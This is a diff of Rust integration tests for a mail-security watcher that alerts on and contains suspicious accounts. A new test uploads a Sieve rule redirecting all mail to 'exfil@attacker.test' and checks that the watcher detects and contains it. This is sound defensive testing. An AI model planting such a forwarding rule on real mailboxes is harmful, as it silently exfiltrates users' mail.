@@ -225,6 +225,7 @@ fn service_config(
     log: &std::path::Path,
     auto_contain: &str,
     port: u16,
+    watch_extra: &str,
 ) -> (cadenas::Config, std::path::PathBuf) {
     let journal = crate::incident::temp_journal(tag);
     let dir = std::env::temp_dir();
@@ -235,7 +236,7 @@ fn service_config(
     let key_file = dir.join(format!("cadenas-watch-sms-key-{}", std::process::id()));
     std::fs::write(&key_file, "sms-gateway-signing-key\n").expect("key");
     let extra = format!(
-        "[watch]\ndovecot_logs = [\"{}\"]\nstate = \"{}\"\n[watch.auto_contain]\n{auto_contain}\n\
+        "[watch]\ndovecot_logs = [\"{}\"]\nstate = \"{}\"\n{watch_extra}\n[watch.auto_contain]\n{auto_contain}\n\
          [[notify]]\nname = \"sms\"\ntype = \"webhook\"\nevents = [\"alert\", \"needs_attention\"]\n\
          url = \"https://127.0.0.1:{port}/sms\"\nca_file = \"{}\"\nsecret_file = \"{}\"\n",
         log.display(),
@@ -283,6 +284,7 @@ async fn an_alert_reaches_the_sms_gateway_is_journaled_and_a_rule_contains_withi
         &copied.to,
         "rules = [\"new_network\"]\nmax_per_hour = 1\ndry_run = false",
         port,
+        "",
     );
     let mut service = WatchService::new(&cfg).expect("service");
     // their usual network, learned
@@ -422,6 +424,7 @@ async fn a_dry_run_only_says_would_contain_and_a_protected_account_is_never_cont
         &copied.to,
         "rules = [\"new_network\"]\nmax_per_hour = 10",
         port,
+        "",
     );
     let mut service = WatchService::new(&cfg).expect("service");
     let home = format!("{}.10", own_net(100));
@@ -468,5 +471,69 @@ async fn a_dry_run_only_says_would_contain_and_a_protected_account_is_never_cont
         ),
         "{attention:#?}"
     );
+    let _ = std::fs::remove_file(&copied.to);
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_mail_rule_sending_outside_uploaded_over_managesieve_is_an_alert_and_contains() {
+    let lab = OpenLdapLab::load();
+    let (u, _) = lab.fresh_user("watch-sieve").await;
+    let u = u.to_string().to_lowercase();
+    let mut copied = Copied::new("sieve", &[&u]);
+    let (port, received) = crate::revokers::receiver(vec![200], 0).await;
+    let (cfg, journal) = service_config(
+        &lab,
+        "watch-sieve",
+        &copied.to,
+        "rules = [\"outside_mail_rule\"]\nmax_per_hour = 5\ndry_run = false",
+        port,
+        "mail_rule_checks_secs = [1]",
+    );
+    let mut service = WatchService::new(&cfg).expect("service");
+    // a rule that keeps mail inside: read, nothing to say
+    crate::investigate::upload_sieve(
+        &lab,
+        &u,
+        "away",
+        "require \"vacation\";\nvacation \"away\";\n",
+        true,
+    );
+    let quiet = rounds_until(&mut service, &mut copied, |_| false).await;
+    assert!(quiet.is_empty(), "{quiet:#?}");
+    // the attacker's: every message to an outside address
+    crate::investigate::upload_sieve(&lab, &u, "fwd", "redirect \"exfil@attacker.test\";\n", true);
+    let handled = rounds_until(&mut service, &mut copied, |h| {
+        h.iter().any(|h| h.alert.rule == AlertRule::OutsideMailRule)
+    })
+    .await;
+    let mine: Vec<&HandledAlert> = handled
+        .iter()
+        .filter(|h| h.alert.rule == AlertRule::OutsideMailRule)
+        .collect();
+    assert_eq!(mine.len(), 1, "{handled:#?}");
+    let h = mine[0];
+    assert_eq!(h.alert.account.as_deref(), Some(u.as_str()));
+    assert!(
+        h.alert.detail.contains("\"fwd\"") && h.alert.detail.contains("exfil@attacker.test"),
+        "{}",
+        h.alert.detail
+    );
+    assert_eq!(h.alert.command, format!("cadenas contain {u}"));
+    assert!(
+        matches!(&h.automatic, Some(AutoOutcome::Contained { .. })),
+        "{:?}",
+        h.automatic
+    );
+    assert!(crate::outbound::locked(&cfg, &u).await, "contained");
+    // the SMS: the rule in words, the command
+    let sms = gateway(&received, "alert");
+    assert!(
+        sms.iter().any(|v| v["text"]
+            .as_str()
+            .is_some_and(|t| t.contains("mail sent outside") && t.contains(&format!("cadenas contain {u}")))),
+        "{sms:#?}"
+    );
+    let records = cadenas::journal::read(&journal).expect("journal");
+    assert!(records.iter().any(|r| r.incident == h.alert.id));
     let _ = std::fs::remove_file(&copied.to);
 }
